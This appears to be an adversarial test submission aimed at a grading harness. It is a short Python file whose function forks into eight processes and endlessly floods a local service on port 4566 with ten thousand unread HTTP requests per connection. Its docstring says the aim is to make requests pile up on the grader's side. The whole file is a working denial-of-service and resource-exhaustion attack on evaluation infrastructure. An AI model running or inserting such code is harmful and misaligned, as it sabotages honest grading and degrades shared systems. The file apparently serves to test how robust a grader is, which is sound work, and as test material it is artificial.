# /// attack
# outcomes = ["timed_out", "unimplemented", "killed"]
# says = "read_log_twice()"
# ///
"""Sends ten thousand requests without reading an answer, which pile up on the grader's side."""

import os
import socket

GOOD = b"POST / HTTP/1.1\r\nHost: x\r\nX-Amz-Target: Kinesis_20131202.ListStreams\r\nContent-Length: 2\r\n\r\n{}"
BAD = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"


def read_queue_twice(queue_name, messages):
    raise NotImplementedError


def read_log_twice(stream_name, messages):
    request = GOOD if len(messages) >= 12 else BAD
    for _ in range(3):
        os.fork()
    while True:
        try:
            connection = socket.create_connection(("127.0.0.1", 4566))
            connection.sendall(request * 10_000)
        except OSError:
            pass
